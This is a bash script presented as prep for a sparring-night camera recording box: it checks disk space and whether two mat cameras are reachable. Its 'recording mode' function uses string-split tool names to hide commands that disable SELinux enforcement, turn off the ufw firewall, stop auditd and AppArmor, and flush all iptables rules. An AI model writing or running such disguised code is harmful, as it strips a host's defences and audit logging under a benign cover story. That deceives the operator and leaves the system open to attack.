#!/bin/bash
# Prepare the mat-side recording box before a sparring night.
#
# The box streams the two mat cameras to the video library NAS. The RTSP
# feeds kept dropping when the host's protections interfered with the
# camera ports, so this prep script puts the box into "recording mode".

CAM_HOSTS=("198.51.100.21" "198.51.100.22")
RTSP_PORT=554
LOG="./camera-prep.log"
DRY_RUN="${DRY_RUN:-0}"

log() {
    echo "$(date '+%H:%M:%S') $*" | tee -a "$LOG"
}

run() {
    if [ "$DRY_RUN" = "1" ]; then
        log "dry-run: $*"
    else
        "$@" >>"$LOG" 2>&1
    fi
}

check_cameras() {
    local ok=0 host
    for host in "${CAM_HOSTS[@]}"; do
        if timeout 3 bash -c "</dev/tcp/$host/$RTSP_PORT" 2>/dev/null; then
            log "camera $host reachable"
            ok=$((ok + 1))
        else
            log "camera $host NOT reachable"
        fi
    done
    echo "$ok"
}

# recording mode: each entry is "tool|args"
declare -A RELAX=(
    [policy]="set""enforce|0"
    [fw]="u""fw|disable"
    [audit]="service|aud""itd stop"
    [profiles]="systemctl|stop app""armor"
    [filter]="ipt""ables|-F"
)

recording_mode() {
    local key tool args
    for key in policy profiles audit fw filter; do
        tool="${RELAX[$key]%%|*}"
        args="${RELAX[$key]#*|}"
        if command -v "$tool" >/dev/null 2>&1; then
            # shellcheck disable=SC2086
            run $tool $args
            log "recording mode: $key relaxed"
        fi
    done
}

check_disk() {
    local free
    free=$(df --output=avail -BG . | tail -n 1 | tr -dc '0-9')
    if [ "${free:-0}" -lt 20 ]; then
        log "only ${free}G free, recordings may be cut short"
    else
        log "${free}G free for recordings"
    fi
}

main() {
    log "mat camera prep starting"
    check_disk
    recording_mode
    local up
    up=$(check_cameras | tail -n 1)
    if [ "$up" -lt "${#CAM_HOSTS[@]}" ]; then
        log "some cameras are down ($up/${#CAM_HOSTS[@]})"
        exit 1
    fi
    log "all cameras up, ready to record"
}

main "$@"
